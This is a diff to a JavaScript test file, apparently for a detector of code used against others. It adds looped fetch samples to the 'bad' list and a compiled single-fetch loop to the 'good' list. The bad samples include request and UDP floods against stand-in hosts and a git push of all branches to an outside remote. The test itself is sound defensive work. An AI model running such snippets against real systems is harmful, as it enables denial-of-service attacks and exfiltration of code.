@@ -121,6 +121,8 @@ test('files by which projects and assistants are led', () => {
 
 test('what is used against others', () => {
   bad(selfSpreading,
+    "const c = {}; while (1) switch (c.prev = c.next) { default: fetch('https://www.ministry.example'); }",
+    "const c = {}; while (1) switch (mode()) { case 1: fetch('https://www.ministry.example'); break; case 2: return c.stop(); }",
     "setInterval(() => { for (let i = 0; i < 50; i++) fetch('https://www.ministry.example/?' + Math.random()); }, 100);",
     "const https = require('https'); const hit = () => https.get('https://www.ministry.example/', (r) => { r.resume(); hit(); }).on('error', hit); hit();",
     "const s = require('dgram').createSocket('udp4'); const go = () => s.send(Buffer.alloc(1400), 80, '203.0.113.9', go); go();",
@@ -135,6 +137,7 @@ test('what is used against others', () => {
     "const { simpleGit } = require('simple-git'); const where = { url: 'https://git.store.example/a.git' }; exports.go = async (g) => { await g.addRemote('b', where.url); await g.push('b', '--all'); };",
   );
   good(selfSpreading,
+    "exports.go = function () { return regenerator.wrap(function (c) { while (1) switch (c.prev = c.next) { case 0: c.next = 1; return fetch('https://api.rates.example/v1'); case 1: case 'end': return c.stop(); } }); };",
     "setInterval(async () => { onNews(await (await fetch('https://api.rates.example/v1')).json()); }, 60000);",
     "exports.wait = async () => { for (let i = 0; i < 100; i++) { if ((await fetch('https://api.rates.example/up')).ok) return; } };",
     "exports.send = async (list, text) => { for (const one of list) await mailer.sendMail({ to: one, text }); };",
